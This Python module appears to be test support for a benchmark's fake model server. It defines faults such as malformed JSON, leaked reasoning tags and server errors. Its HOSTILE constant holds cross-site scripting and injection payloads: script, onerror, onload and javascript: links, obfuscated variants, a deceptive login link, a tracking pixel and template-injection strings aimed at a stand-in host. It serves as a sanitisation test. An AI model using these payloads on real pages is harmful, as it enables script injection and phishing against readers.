"""The ways in which the fake model server misbehaves on demand (cases F1–F10, J1)."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from typing import Final

from bench.fake_model_answers import Kind

REASONING: Final = 'GEHEIM: the person seems to want something, let me think about { "a": 1 } and more.'
"""Reasoning text; whoever sees ``GEHEIM`` outside of the server has found a leak."""

HOSTILE_HOST: Final = "fremd.example"
HOSTILE: Final = f"""<script>window.fremd = 1; fetch("http://{HOSTILE_HOST}/skript")</script>
<img src="http://{HOSTILE_HOST}/bild.png" onerror="window.fremd = 2"><svg onload="window.fremd = 3"></svg>
<iframe src="http://{HOSTILE_HOST}/rahmen"></iframe><link rel="stylesheet" href="http://{HOSTILE_HOST}/stil.css">
<form action="http://{HOSTILE_HOST}/formular"><button>Weiter</button></form>

![Pixel](http://{HOSTILE_HOST}/pixel.png?geheim=1) ![Pixel](//{HOSTILE_HOST}/pixel.png)

[Klick](javascript:window.fremd=4) [Klick](JaVa\tScript:window.fremd=5) [Klick](data:text/html,<script>1</script>)
[bank.example](http://bank.example@{HOSTILE_HOST}/anmelden) <javascript:window.fremd=6>

</script></textarea><script>window.fremd = 7</script>
{{{{constructor.constructor("window.fremd = 8")()}}}} ${{window.fremd = 9}}
"""
"""What a model must not be able to do to whoever reads it: ``window.fremd`` tells whether anything ran."""

CONTENT_FAULTS: Final = (
    "prose",
    "fenced",
    "truncated",
    "trailing_comma",
    "single_quotes",
    "bare_list",
    "number",
    "echoed_schema",
    "empty",
    "empty_thinking",
    "think",
    "unclosed_think",
    "only_close_think",
    "format_think_prose",
    "hostile",
)
"""Faults of what the model says; the HTTP reply is in order."""
SERVER_FAULTS: Final = (
    "timeout",
    "slow",
    "error500",
    "not_found",
    "unauthorised",
    "garbage",
    "html",
    "wrong_path",
    "reject_format",
    "reject_schema",
    "reject_think",
    "context_overflow",
    "cut_stream",
)
"""Faults of the server itself."""
FAULTS: Final = (*CONTENT_FAULTS, *SERVER_FAULTS)


@dataclass(slots=True)
class Fault:
    """One active fault.

    ``kind`` limits it to a caller (``perzeption``, ``salienz``, ``json``, ``text``), ``contains`` to prompts
    with that text, ``times`` to so many calls (``None`` = until cleared).
    """

    name: str
    kind: Kind | None = None
    contains: str = ""
    times: int | None = None
    hits: int = field(default=0)

    def __post_init__(self) -> None:
        if self.name not in FAULTS:
            raise ValueError(f"unknown fault {self.name!r}; one of {', '.join(FAULTS)}")
        if self.kind not in (None, "perzeption", "salienz", "json", "text"):
            raise ValueError(f"unknown kind {self.kind!r}; one of perzeption, salienz, json, text")

    def strikes(self, kind: Kind, prompt: str) -> bool:
        """Whether this call is hit; counts the hit."""
        used_up = self.times is not None and self.hits >= self.times
        if used_up or self.kind not in (None, kind) or self.contains not in prompt:
            return False
        self.hits += 1
        return True


@dataclass(frozen=True, slots=True)
class Spoken:
    """What the model says: its two channels."""

    content: str
    thinking: str = ""


def misspeak(fault: str | None, content: str, *, schema: object, think: object) -> Spoken:
    """The content as the fault leaves it. ``think`` is the wire value (``None`` = not sent)."""
    if fault == "format_think_prose" and schema is not None and think is False:
        return Spoken("Die Person wirkt ruhig.")
    if fault == "echoed_schema":
        return Spoken(json.dumps(schema or {"type": "object", "properties": {}}))
    return _MISSPOKEN.get(fault or "", Spoken)(content)


def _without_last_brace(content: str) -> str:
    return content.rstrip().removesuffix("}")


def _single_quoted(content: str) -> str:
    return repr(json.loads(content)) if content.startswith("{") else content


_MISSPOKEN: Final[Mapping[str, Callable[[str], Spoken]]] = {
    "prose": lambda _: Spoken("Gern! Die Person wirkt ruhig, mehr kann ich dazu nicht sagen."),
    "fenced": lambda content: Spoken(f"Hier ist das Ergebnis:\n```json\n{content}\n```\nPasst das so?"),
    "truncated": lambda content: Spoken(content[: max(1, len(content) * 3 // 4)]),
    "trailing_comma": lambda content: Spoken(_without_last_brace(content) + ",}"),
    "single_quotes": lambda content: Spoken(_single_quoted(content)),
    "bare_list": lambda content: Spoken(f"[{content}]"),
    "number": lambda _: Spoken("0.7"),
    "empty": lambda _: Spoken(""),
    "empty_thinking": lambda _: Spoken("", REASONING),
    "think": lambda content: Spoken(f"<think>{REASONING}</think>\n\n{content}"),
    "unclosed_think": lambda _: Spoken(f"<think>\n{REASONING}"),
    "only_close_think": lambda content: Spoken(f"{REASONING}\n</think>\n{content}"),
    "hostile": lambda _: Spoken(HOSTILE),
}
